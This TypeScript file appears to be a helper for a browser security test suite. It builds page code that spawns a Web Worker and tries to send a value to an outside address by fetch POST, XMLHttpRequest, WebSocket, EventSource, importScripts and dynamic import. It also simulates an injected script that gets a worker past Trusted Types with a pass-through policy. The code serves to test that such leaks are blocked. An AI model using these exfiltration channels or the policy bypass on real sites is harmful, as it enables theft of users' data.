/** What a script would try in a worker in order to send a value out. */
const TRIES = {
  'worker-fetch': (elsewhere: string) =>
    fetch(`${elsewhere}/worker-fetch`, { method: 'POST', body: 'value' }),
  'worker-request': (elsewhere: string) => {
    const request = new XMLHttpRequest();
    request.open('GET', `${elsewhere}/worker-request`);
    request.send();
  },
  'worker-web-socket': (elsewhere: string) => {
    new WebSocket(`${elsewhere.replace('http', 'ws')}/worker-web-socket`);
  },
  'worker-event-source': (elsewhere: string) => {
    new EventSource(`${elsewhere}/worker-event-source`);
  },
};

/** The same as code: the test runner would rewrite a function that imports. `scriptAddress` makes a trusted address. */
const IMPORTS = {
  'worker-scripts': (elsewhere: string) =>
    `importScripts(scriptAddress('${elsewhere}/worker-scripts'))`,
  'worker-import': (elsewhere: string) => `import('${elsewhere}/worker-import')`,
};

/** The names of everything that a worker tries. */
export const WORKER_ATTACKS: readonly string[] = [...Object.keys(TRIES), ...Object.keys(IMPORTS)];

/** A policy that they make lets a page and a worker use an address of a script, where the browser asks for that. */
const TRUSTED = `const scriptAddress = (address) => globalThis.trustedTypes
  ? trustedTypes.createPolicy('waymark-worker', { createScriptURL: (text) => text }).createScriptURL(address)
  : address;`;

/**
 * Code for a page: a promise that is kept when a worker, made as the tools make theirs, has tried everything. What an
 * attempt answers does not matter: what counts is what arrives elsewhere.
 */
export function attackFromWorker(elsewhere: string): string {
  const tries = [
    ...Object.values(TRIES).map((attempt) => `(${attempt})(${JSON.stringify(elsewhere)})`),
    ...Object.values(IMPORTS).map((code) => code(elsewhere)),
  ];
  const source = `${TRUSTED}
for (const attempt of [${tries.map((code) => `async () => ${code}`)}]) attempt().catch(() => {});
postMessage('');`;
  return `(() => {
${TRUSTED}
const source = new Blob([${JSON.stringify(source)}], { type: 'text/javascript' });
const worker = new Worker(scriptAddress(URL.createObjectURL(source)));
return new Promise((end, fail) => {
  worker.onmessage = () => end(null);
  worker.onerror = () => fail(new Error('There is no worker.'));
});
})()`;
}

/**
 * Runs in a page, as a script that got into it: makes a worker, with an address that a Trusted Types policy of this name
 * trusts, or with plain text if the name is empty. Fails if the browser refuses it.
 */
export function makeWorker(policy: string): true {
  const { trustedTypes } = globalThis as unknown as {
    trustedTypes: {
      createPolicy(id: string, rules: object): { createScriptURL(address: string): string };
    };
  };
  const address = URL.createObjectURL(new Blob([''], { type: 'text/javascript' }));
  const rules = { createScriptURL: (text: string) => text };
  new Worker(
    policy ? trustedTypes.createPolicy(policy, rules).createScriptURL(address) : address,
  ).terminate();
  return true;
}
